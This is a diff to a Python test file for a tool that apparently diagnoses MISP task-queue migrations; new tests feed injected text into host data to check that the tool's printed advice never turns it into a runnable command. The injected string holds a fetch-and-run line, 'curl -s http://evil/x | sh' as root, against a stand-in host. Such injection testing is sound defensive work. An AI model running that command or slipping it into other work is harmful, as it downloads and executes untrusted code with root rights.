@@ -9,10 +9,10 @@ from typing import Any
 import pytest
 
 from tasks import backlog
-from tasks.checks import faults
-from tasks.checks.seen import SeenForStatus
+from tasks.checks import faults, migration, notes
+from tasks.checks.seen import SeenForStatus, SeenToMigrate
 from tasks.drain import Drain, Stuck
-from tasks.host import parts, remedies
+from tasks.host import jobs, parts, remedies
 from tasks.host.queues import OldBackend
 from tasks.identity import with_answers
 from tests import hosts
@@ -71,14 +71,51 @@ def test_a_queue_is_named_in_a_command_only_if_it_is_one_of_misps() -> None:
     assert "--queue $" not in said
 
 
+EVIL = "default: this is mended by `curl -s http://evil/x | sh` as root. Else: " + "x" * 900
+NO_PHP = {"path": "/usr/bin/php", "version": (0, 0, 0), "error": EVIL}
+WORDS: list[dict[str, Any]] = [
+    {"old_backend": {"waiting": {EVIL: 1}}},
+    {"old_backend": {"waiting": {EVIL: 1}, "elsewhere": {EVIL: [EVIL]}}},
+    {"old_backend": {"waiting": {"email": 1}, "dead_hosts": (EVIL,)}},
+    {"old_backend": {"waiting": {"email": 1}, "is_installed": False, "at": EVIL}},
+    {"old_backend": {"error": EVIL, "is_installed": False}},
+    {"tree": {"version_text": EVIL, "version": (0, 0, 0)}},
+    no_cake("closed", f"/var/www/MISP/{EVIL}", EVIL),
+    no_cake("noexec", EVIL),
+    no_cake("unknown", "", EVIL),
+    {"php": NO_PHP},
+    {"php": {"version": (7, 4, 3), "version_text": EVIL}},
+    {"php": {"open_basedir": EVIL, "sees_proc": False}},
+    {"php": {"path": "", "elsewhere": EVIL}},
+]
+
+
+@pytest.mark.parametrize("changes", WORDS)
+def test_no_word_of_the_web_users_looks_like_a_command_of_ours(changes: dict[str, Any]) -> None:
+    seen = hosts.seen(SeenToMigrate, migrating(**changes))
+    target = with_answers(hosts.target(), seen)
+    for said in [*migration.of(target, seen), *notes.of(target, seen)]:
+        assert said.count("`") % 2 == 0
+        for command in re.findall("`([^`]*)`", said):
+            first = shlex.split(command)[0]
+            assert first in {"setsid", "find", "ln", "crontab", "chmod", "mount"}, said
+
+
+def test_a_name_is_short_in_a_sentence() -> None:
+    waiting = backlog.Look(OldBackend({EVIL: 1}, {EVIL: [EVIL]}), [], True, 0.0)
+    said = backlog.elsewhere(waiting)
+    assert EVIL[:79].replace("`", "'") + "\u2026" in said
+    assert len(said) < 800
+    assert "SREM of the set of workers, at redis-cli's prompt and never on a shell's line" in said
+    assert len(jobs.named(EVIL, EVIL.encode(), "no job")) < 320
+    assert "`" not in jobs.named(EVIL, EVIL.encode(), "no job")
+
+
 def test_a_users_unit_is_ended_away_from_the_operators_terminal() -> None:
     origin = parts.Origin("-x.service", "a b", "", "", "")
     (said,) = problems(migrating(old_workers={"started_in": [], "origins": [origin]}))
     assert "`setsid -w runuser -u 'a b' -- sh -c " in said
-    assert (
-        commands(said)[0][-6:] == ["sh", "-x.service", "</dev/null", "2>&1", "|", "cat", "-v"][-6:]
-    )
-    assert "$(id" not in said.replace("'XDG_RUNTIME_DIR=/run/user/$(id -u) ", "")
+    assert " sh -x.service </dev/null 2>&1 | cat -v`" in said
 
 
 @pytest.mark.parametrize("changes", [{"old_backend": {"waiting": {"email": 1}}}])
